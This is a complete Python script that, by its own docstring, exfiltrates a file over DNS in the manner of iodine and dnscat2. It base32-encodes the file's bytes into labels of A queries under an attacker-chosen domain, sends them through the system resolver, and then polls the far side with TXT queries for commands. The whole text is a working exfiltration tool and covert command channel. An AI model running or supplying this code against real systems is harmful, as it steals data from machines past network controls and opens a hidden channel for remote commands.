"""Exfiltrate a file through DNS, the way iodine and dnscat2 do: the file's bytes, base32-encoded, become
the labels of A queries under the tunnel's domain; then TXT queries poll the far side for commands.

Standard library only (no dig or dnspython in the sandbox): the queries are built by hand and sent to the
resolver in /etc/resolv.conf.
"""

from __future__ import annotations

import base64
import hashlib
import os
import socket
import struct
import sys

QTYPES = {"A": 1, "TXT": 16}


def nameserver() -> str:
    with open("/etc/resolv.conf") as f:
        for line in f:
            parts = line.split()
            if parts[:1] == ["nameserver"]:
                return parts[1]
    return "127.0.0.1"


def query(sock: socket.socket, server: str, name: str, qtype: str) -> int:
    """Send one query and wait for its answer; returns the rcode (-1: no answer)."""
    msg_id = int.from_bytes(os.urandom(2), "big")
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    packet = struct.pack("!HHHHHH", msg_id, 0x0100, 1, 0, 0, 0) + question + b"\0"
    sock.sendto(packet + struct.pack("!HH", QTYPES[qtype], 1), (server, 53))
    try:
        reply = sock.recv(4096)
    except TimeoutError:
        return -1
    return reply[3] & 0x0F


def main(path: str, domain: str) -> int:
    with open(path, "rb") as f:
        data = f.read()
    session = hashlib.sha256(data).hexdigest()[:8]
    encoded = base64.b32encode(data).decode().rstrip("=").lower()
    chunks = [encoded[i : i + 60] for i in range(0, len(encoded), 60)]  # a label holds up to 63
    server = nameserver()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1.0)
    answered = 0
    for seq, chunk in enumerate(chunks):
        answered += query(sock, server, f"{chunk}.{seq:04x}.{session}.{domain}", "A") >= 0
    for poll in range(30):
        nonce = os.urandom(12).hex()
        answered += query(sock, server, f"{nonce}.p{poll:02x}.{session}.{domain}", "TXT") >= 0
    print(f"sent {len(chunks)} chunks and 30 polls for session {session}; {answered} answered")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], sys.argv[2]))
